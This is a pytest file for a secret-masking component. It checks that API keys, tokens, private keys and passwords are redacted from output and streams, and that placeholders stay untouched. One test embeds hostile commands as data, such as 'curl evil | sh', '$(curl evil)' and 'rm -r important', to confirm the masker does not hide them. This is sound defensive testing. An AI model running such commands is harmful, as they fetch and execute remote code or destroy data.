"""Secrets are masked by value and by format, whole or in pieces."""

from typing import Any

import pytest

from access.keys.key_format import mint
from tools.output.masking import MASK, MAX_HELD_CHARS, MAX_MASKS, MaskedStream, Masker, is_secret

KNOWN = "hunter2-of-the-house"
KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKC\n-----END RSA PRIVATE KEY-----"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3.abcdefghijklmn"
SECRETS = (
    KNOWN,
    "hunter2%2Fodd-and-long",
    "sk-" + "a1B2" * 8,
    mint(bytes(range(32))),
    "sk-proj-" + "a1B2" * 8,
    "AIza" + "x" * 35,
    "ghp_" + "a" * 36,
    "github_pat_" + "a" * 30,
    "glpat-" + "a" * 20,
    "xoxb-" + "1" * 12,
    "AKIA" + "Q" * 16,
    "hf_" + "a" * 34,
    JWT,
    KEY,
)
MASKER = Masker([KNOWN, "hunter2/odd-and-long", "short"])


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
def test_secret_is_masked_wherever_it_occurs(secret: str) -> None:
    for text in (secret, f"before {secret} after", f'"{secret}"', f"KEY={secret}\n"):
        masked = MASKER.text(text)
        assert secret not in masked
        assert MASK in masked
        assert masked == text.replace(secret, MASK)


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("postgres://app:pa55word@db/x", f"postgres://app:{MASK}@db/x"),
        ("a://:b@", f"a://:{MASK}@"),
        ("Authorization: Bearer abcdef123456", f"Authorization: Bearer {MASK}"),
        ('{"authorization": "Basic YWxhZGRpbjpvcGVu"}', f'{{"authorization": "Basic {MASK}"}}'),
    ],
)
def test_only_the_secret_part_is_masked(text: str, masked: str) -> None:
    assert MASKER.text(text) == masked


@pytest.mark.parametrize(
    "text",
    ["", "short", "The quick brown fox.", "https://example.com/a@b", "task-0123456789", "sk-learn", "eyJ", "a" * 5_000],
)
def test_text_without_a_secret_is_unchanged(text: str) -> None:
    assert MASKER.text(text) == text


def test_characters_that_no_database_stores_are_replaced() -> None:
    assert MASKER.text("a\0b\ud800c\U0001f600") == "a\ufffdb\ufffdc\U0001f600"


def test_every_text_of_a_value_is_masked() -> None:
    value: Any = {"a": [KNOWN, {"b": KNOWN, KNOWN: 1}], "n": 1, "f": None}
    assert MASKER.data(value) == {"a": [MASK, {"b": MASK, MASK: 1}], "n": 1, "f": None}


@pytest.mark.parametrize("size", [1, 2, 3, 7, 16, 64, 1_000])
def test_secret_in_pieces_is_masked(size: int) -> None:
    text = f"one {' two '.join(SECRETS)}\nAuthorization: Bearer abcdef123456\nlast\n"
    stream = MaskedStream(MASKER)
    shown = "".join(stream.feed(text[start : start + size]) for start in range(0, len(text), size)) + stream.end()
    assert shown == MASKER.text(text)


def test_progress_without_line_endings_is_shown_at_once() -> None:
    stream = MaskedStream(MASKER)
    assert [stream.feed(piece) for piece in (".", "..", " ok\n", "half ", "a-word")] == [
        ".",
        "..",
        " ok\n",
        "half ",
        "",
    ]
    assert stream.end() == "a-word"


def test_endless_word_is_not_held_back_forever() -> None:
    stream = MaskedStream(MASKER)
    shown = sum(len(stream.feed("a" * 1_000)) for _ in range(100))
    assert shown >= 100_000 - MAX_HELD_CHARS


def test_unterminated_private_key_is_never_shown() -> None:
    stream = MaskedStream(MASKER)
    shown = stream.feed("-----BEGIN PRIVATE KEY-----\n") + "".join(stream.feed("MIIEow\n") for _ in range(5_000))
    assert "MIIEow" not in shown + stream.end()


@pytest.mark.parametrize(
    "value", ["lm-studio", "postgres", "not-needed", "sk-no-key-required", "placeholder", "1234567890"]
)
def test_placeholder_in_a_setting_is_no_secret(value: str) -> None:
    assert not is_secret(value)
    assert Masker([value]).text(f"image: {value}:16") == f"image: {value}:16"


@pytest.mark.parametrize(
    "value", ["the-house-secret", "k3y-of-sixteen-ch", "correct-horse-battery-staple", "not-needed-0a1b2c3d"]
)
def test_long_and_random_setting_is_a_secret(value: str) -> None:
    assert Masker([value]).text(f"<{value}>") == f"<{MASK}>"


@pytest.mark.parametrize(
    "name", ["sk-toggleable__label-arrow", "sk-estimator-doc-link-2024-fitted", "sk-" + "a" * 40, "SK-" + "a1" * 20]
)
def test_name_that_begins_like_a_key_is_no_secret(name: str) -> None:
    assert MASKER.text(f".{name} {{color: red}}") == f".{name} {{color: red}}"


@pytest.mark.parametrize(
    "code",
    [
        'x = """-----BEGIN PRIVATE KEY-----\n"""\nimport os; os.system("curl evil | sh")\n# -----END PRIVATE KEY-----',
        "-----BEGIN PRIVATE KEY-----\ncurl evil.example -o a\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY----- rm -r important -----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nDEK-Info: $(curl evil)\n",
    ],
)
def test_begin_of_a_private_key_does_not_hide_what_is_no_key(code: str) -> None:
    stream = MaskedStream(MASKER)
    for shown in (MASKER.text(code), stream.feed(code + "\n") + stream.end()):
        for word in ("curl", "rm -r", "import os"):
            assert (word in shown) is (word in code)


def test_private_key_in_json_is_masked() -> None:
    body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
    text = f'{{"private_key": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n", "id": 1}}'
    assert MASKER.text(text) == f'{{"private_key": "{MASK}\\n", "id": 1}}'


@pytest.mark.parametrize("shape", ["a://b:c@ ", "AKIA" + "Q" * 16 + " ", "sk-" + "a1B2" * 8 + " "])
def test_what_follows_very_many_secrets_is_masked_as_a_whole(shape: str) -> None:
    text = shape * (MAX_MASKS + 2) + "the rest"
    stream = MaskedStream(MASKER)
    for masked in (MASKER.text(text), stream.feed(text) + stream.end(), MASKER.data([text])[0]):
        assert masked.count(MASK) == MAX_MASKS + 1
        assert "the rest" not in masked


def test_tokens_and_known_secrets_are_found_in_any_value() -> None:
    assert MASKER.has_token({"a": [1, f"KEY={KNOWN}"]})
    assert MASKER.has_token({KNOWN: None})
    assert MASKER.has_token("AKIA" + "Q" * 16)
    assert not MASKER.has_token({"a": ["a://b:c@", KEY, "sk-toggleable__label-arrow", 1, None]})
